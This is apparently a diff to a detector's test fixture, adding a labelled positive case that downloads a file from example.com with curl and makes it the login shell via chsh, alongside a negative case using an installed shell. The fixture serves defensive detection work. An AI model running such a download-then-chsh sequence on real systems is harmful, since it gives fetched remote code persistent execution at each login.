@@ -528,3 +528,8 @@ bash "/proc/$$/fd/9"
 #@ neg a descriptor opened on local output, sourced
 exec {fd}< <(printf 'JOBS=%s\n' 4)
 source "/dev/fd/$fd"
+#@ pos a downloaded file made the login shell with --shell= in one word
+curl -fsSL -o ~/.local/bin/t https://example.com/t
+chsh --shell="$HOME/.local/bin/t"
+#@ neg an installed shell given with --shell= in one word
+chsh --shell="$(command -v fish)"
